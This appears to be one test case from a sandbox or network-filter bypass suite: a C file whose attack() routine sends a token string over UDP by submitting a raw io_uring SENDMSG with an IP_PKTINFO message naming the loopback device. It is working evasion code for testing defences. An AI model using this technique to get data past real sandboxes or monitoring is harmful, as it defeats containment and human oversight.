/* Sends to it by io_uring, with an IP_PKTINFO control message that names the loopback device. */
#include "attack.h"
#include <linux/io_uring.h>

/* Has the kernel carry out one operation. */
static void submit(const struct io_uring_sqe *operation) {
    struct io_uring_params params = {0};
    int ring = must(syscall(SYS_io_uring_setup, 4, &params), "io_uring_setup");
    size_t size = params.sq_off.array + params.sq_entries * sizeof(uint32_t);
    int kind = PROT_READ | PROT_WRITE;
    char *queue = mmap(NULL, size, kind, MAP_SHARED, ring, IORING_OFF_SQ_RING);
    struct io_uring_sqe *entries = mmap(NULL, params.sq_entries * sizeof *entries, kind, MAP_SHARED, ring, IORING_OFF_SQES);
    if (queue == MAP_FAILED || entries == MAP_FAILED) could_not("mmap");
    entries[0] = *operation;
    uint32_t *tail = (uint32_t *)(queue + params.sq_off.tail);
    ((uint32_t *)(queue + params.sq_off.array))[*tail & (params.sq_entries - 1)] = 0;
    __atomic_store_n(tail, *tail + 1, __ATOMIC_RELEASE);
    must(syscall(SYS_io_uring_enter, ring, 1, 0, 0, NULL, 0), "io_uring_enter");
    struct pollfd done = {.fd = ring, .events = POLLIN};
    poll(&done, 1, 100);
}

static struct iovec data;
static union { struct cmsghdr header; char room[CMSG_SPACE(sizeof(struct in_pktinfo))]; } control;

static void prepare(struct msghdr *message) {
    struct in_pktinfo by = {.ipi_ifindex = 1};
    data = (struct iovec){(char *)token, strlen(token)};
    control.header = (struct cmsghdr){CMSG_LEN(sizeof by), IPPROTO_IP, IP_PKTINFO};
    memcpy(CMSG_DATA(&control.header), &by, sizeof by);
    *message = (struct msghdr){
        .msg_name = &to, .msg_namelen = length(&to), .msg_iov = &data, .msg_iovlen = 1,
        .msg_control = &control, .msg_controllen = family() == AF_INET ? sizeof control : 0,
    };
}

static void attack(void) {
    struct msghdr message;
    prepare(&message);
    submit(&(struct io_uring_sqe){
        .opcode = IORING_OP_SENDMSG, .fd = connected(SOCK_DGRAM), .addr = (uintptr_t)&message, .len = 1,
    });
}
